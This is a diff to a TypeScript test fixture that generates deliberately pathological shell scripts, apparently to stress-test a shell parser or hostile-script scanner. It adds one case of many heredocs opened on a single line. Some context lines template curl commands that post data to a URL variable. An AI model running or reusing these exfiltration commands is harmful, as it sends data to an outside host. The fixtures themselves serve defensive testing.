@@ -38,6 +38,7 @@ export const hostileScripts: Readonly<Record<string, HostileFile>> = {
   "signs of pipes without commands": shell((bytes) => `${sending(1)}\n${upTo(bytes / 2, "", () => "a;")}${upTo(bytes / 2, "", () => "| ")}`),
   "a pipe of very many commands": shell((bytes) => `echo '${body(1)}' | ${upTo(bytes, " | ", () => "cat")} | curl ${url} -d @-`),
   "documents of one line": shell((bytes) => `${sending(1)}\n${upTo(bytes / 2, "", () => "cat <<E;")}\n${upTo(bytes / 2, "", () => "x\nE\n")}`),
+  "documents that one line begins": shell((bytes) => `${sending(1)}\ncat ${upTo(bytes / 3, " ", () => "<<A")}\n${upTo(bytes / 3, "\n", () => "A")}\n`),
   "filters in branches": shell((bytes) => `${sending(1)}\ncase $1 in\n${upTo(bytes, "\n", (at) => `a${at}) F='${json(at)}' ;;`)}\nesac\ncurl ${url} -d "$F"\n`),
   "subscripts that are never closed": shell((bytes) => `${sending(1)}\n${upTo(bytes, "", () => "${a[")}`),
   "words of one letter": shell((bytes) => `${sending(1)}\n${upTo(bytes, " ", () => "a")}\n`),
